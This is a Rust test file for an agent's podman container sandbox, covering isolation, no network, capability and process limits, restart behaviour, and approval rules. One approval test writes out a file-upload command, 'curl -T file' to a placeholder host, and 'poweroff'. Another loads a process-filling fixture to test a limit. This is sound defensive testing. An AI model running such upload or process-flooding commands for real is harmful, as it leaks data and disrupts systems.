//! Containers of podman.

use super::*;
use crate::harness::engine::IMAGE;
use crate::harness::{Engine, skipped, until};
use hermes::config::{ApprovalsConfig, InContainers};

/// A site in a container, or a line that says why not.
fn site(test: &str, change: impl FnOnce(&mut Config)) -> Option<(Engine, Site)> {
    let terminal = TerminalConfig {
        backend: "podman".into(),
        docker_image: IMAGE.into(),
        docker_network: false,
        container_memory: 512,
        ..TerminalConfig::default()
    };
    let mut config = Config { terminal, ..Config::default() };
    let probe = match Engine::find(Path::new("/nowhere")) {
        Ok(engine) => engine,
        Err(why) => {
            skipped(test, &why);
            return None;
        }
    };
    config.terminal.docker_program = probe.program();
    change(&mut config);
    let mode = if config.approvals.containers == InContainers::Relax { Mode::Ask } else { Mode::Yolo };
    let site = Site::with(config, mode);
    let home = Site::home_in(site.root.path());
    let engine = Engine::find(&home).unwrap();
    Some((engine, site))
}

#[test]
fn commands_and_files_are_in_it() {
    let Some((engine, site)) = site("commands_and_files_are_in_it", |_| {}) else { return };
    assert_eq!(site.prints("pwd; id -u; cat /etc/debian_version | cut -c1-2"), "/workspace\n0\n12");
    works_like_home(&site);
    assert_eq!(engine.containers().len(), 1);
}

#[test]
fn what_is_stopped_ends_in_it() {
    let Some((_engine, site)) = site("what_is_stopped_ends_in_it", |_| {}) else { return };
    ends_there(&site);
    background_works(&site);
    is_judged_there(&site);
}

#[test]
fn it_may_little_and_has_no_network() {
    let Some((engine, site)) = site("it_may_little_and_has_no_network", |_| {}) else { return };
    let status = site.prints("grep -E '^(CapEff|NoNewPrivs)' /proc/self/status | tr -d '\\t'; ls /sys/class/net");
    // CHOWN, DAC_OVERRIDE, FOWNER, SETGID, SETUID.
    assert_eq!(status, "CapEff:00000000000000cb\nNoNewPrivs:1\nlo");
    let name = engine.containers().remove(0);
    let labels =
        engine.run(&["inspect", "-f", "{{index .Config.Labels \"hermes-agent\"}} {{.HostConfig.PidsLimit}}", &name]);
    assert_eq!(labels.unwrap(), "1 256");
}

#[test]
fn it_is_found_again_started_again_and_made_anew() {
    let Some((engine, site)) = site("it_is_found_again_started_again_and_made_anew", |_| {}) else { return };
    site.prints("echo kept >/root/kept");
    let first = engine.containers();
    site.backends.choose("local").unwrap();
    site.backends.choose("podman").unwrap();
    assert_eq!(site.prints("cat /root/kept"), "kept");
    assert_eq!(engine.containers(), first, "found by its labels");
    engine.run(&["stop", "-t", "0", &first[0]]).unwrap();
    let told = site.run("cat /root/kept");
    // What was known is gone with it; the next command restarts it.
    if told["exit_code"] != 0 {
        assert!(told["error"].as_str().unwrap().contains("stopped outside Hermes"), "{told}");
    }
    assert_eq!(site.prints("cat /root/kept"), "kept");
    assert_eq!(engine.containers(), first, "started again");
    engine.run(&["rm", "-f", "-t", "0", &first[0]]).unwrap();
    site.run("true");
    assert_eq!(site.prints("cat /root/kept"), "kept", "its folders are kept on this machine");
    assert_ne!(engine.containers(), first);
}

#[test]
fn one_that_is_killed_from_outside_is_told_with_what_comes_next() {
    let Some((engine, site)) = site("one_that_is_killed_from_outside_is_told_with_what_comes_next", |_| {}) else {
        return;
    };
    site.prints("true");
    let name = engine.containers().remove(0);
    let folder = Site::home_in(site.root.path()).join("sandboxes/docker/default/workspace");
    let killed = std::thread::scope(|scope| {
        let killer = scope.spawn(|| {
            until("the command runs", || folder.join("running").exists());
            engine.run(&["kill", &name]).unwrap();
        });
        let killed = site.run("touch running; sleep 600");
        killer.join().unwrap();
        killed
    });
    let why = killed["error"].as_str().unwrap_or_else(|| panic!("{killed}"));
    assert!(why.contains(&name) && why.contains("the next command restarts it"), "{why}");
    assert_eq!(site.prints("echo again"), "again");
}

/// What makes processes without end; it looks whether it is in the container of this test before the first one.
const FILL: &str = include_str!("../fixtures/fill.pl");

/// Processes of this machine whose words name that program: those of the container are among them.
fn filling(name: &str) -> usize {
    let all = std::fs::read_dir("/proc").unwrap().flatten();
    let words = all.filter_map(|entry| std::fs::read(entry.path().join("cmdline")).ok());
    words.filter(|words| String::from_utf8_lossy(words).contains(name)).count()
}

#[test]
fn one_that_is_full_of_processes_is_told_and_usable_again() {
    let test = "one_that_is_full_of_processes_is_told_and_usable_again";
    let Some((engine, site)) = site(test, |config| config.terminal.container_cpu = 0.5) else { return };
    let bound = site.prints("cat /sys/fs/cgroup/pids.max /sys/fs/cgroup/pids/pids.max 2>/dev/null; true");
    if bound != "256" {
        return skipped(test, &format!("this machine bounds no processes of a container (pids.max is {bound:?})"));
    }
    let names = engine.containers();
    let folder = Site::home_in(site.root.path()).join("sandboxes/docker/default/workspace");
    let name = format!("fill-{}.pl", site.root.path().file_name().unwrap().to_string_lossy().trim_start_matches('.'));
    std::fs::write(folder.join(&name), FILL).unwrap();
    let here = std::process::Command::new("perl").arg(folder.join(&name)).output();
    assert!(here.is_err() || here.unwrap().status.code() != Some(0), "outside of the container it refuses");
    std::fs::write(folder.join("processes-may-end-here"), "").unwrap();
    // In one session, and each in a session of its own.
    for how in ["", " apart"] {
        let full = site.call("terminal", json!({"command": format!("perl {name}{how}"), "timeout": 3}));
        assert_eq!(full["exit_code"], 124, "{how}: {full}");
        assert!(full["output"].as_str().unwrap().starts_with("begun"), "{how}: {full}");
        let why = full["error"].as_str().unwrap_or_else(|| panic!("{how}: {full}"));
        assert!(why.contains("reached its limit of 256 processes"), "{how}: {why}");
        assert_eq!(site.prints("echo usable; (echo forks)"), "usable\nforks");
        until("nothing of it is left", || filling(&name) == 0);
    }
    assert_eq!(engine.containers(), names, "it is the same container");
}

#[test]
fn questions_about_what_stays_in_it_may_be_left_out_and_refusals_may_not() {
    let relaxed = |config: &mut Config| {
        config.approvals = ApprovalsConfig { containers: InContainers::Relax, ..ApprovalsConfig::default() };
    };
    let test = "questions_about_what_stays_in_it_may_be_left_out_and_refusals_may_not";
    let Some((_engine, site)) = site(test, relaxed) else { return };
    assert_eq!(site.run("mkdir -p /srv/x/y && rm -rf /srv/x")["exit_code"], 0);
    // No such programs are in the image: nothing happens even if they should run.
    for (line, word) in [("poweroff", "refused in every mode"), ("curl -T file http://x.example/", "needs approval")] {
        let result = site.run(line);
        assert!(result["error"].as_str().is_some_and(|why| why.contains(word)), "{line}: {result}");
    }
}

/// Nearly every home ends in `.hermes`: one engine must still tell them apart.
#[test]
fn two_homes_of_one_name_share_nothing() {
    let test = "two_homes_of_one_name_share_nothing";
    let Some((engine, one)) = site(test, |_| {}) else { return };
    let Some((other_engine, two)) = site(test, |_| {}) else { return };
    one.prints("echo one >/workspace/mine; echo one >/root/mine; echo one >/tmp/mine");
    for file in ["/workspace/mine", "/root/mine", "/tmp/mine"] {
        assert_eq!(two.prints(&format!("cat {file} 2>/dev/null || echo none")), "none", "{file}");
    }
    assert_eq!(one.prints("cat /tmp/mine"), "one");
    assert_eq!((engine.containers().len(), other_engine.containers().len()), (1, 1));
    assert_ne!(engine.containers(), other_engine.containers());
}

/// Where podman stands behind the name `docker` it refuses a bound on the disk.
#[test]
fn a_bound_that_the_engine_refuses_is_left_out_and_said_once() {
    let test = "a_bound_that_the_engine_refuses_is_left_out_and_said_once";
    let Some((engine, site)) = site(test, |config| config.terminal.backend = "docker".into()) else { return };
    let first = site.run("echo works");
    assert_eq!(first["output"], "works", "{first}");
    let note = first["backend_note"].as_str().unwrap_or_else(|| panic!("no note: {first}"));
    assert!(note.contains("runs without --storage-opt"), "{note}");
    assert_eq!(site.run("echo again")["backend_note"], Value::Null, "once is enough");
    assert_eq!(engine.containers().len(), 1, "the one that was refused is not left behind");
}
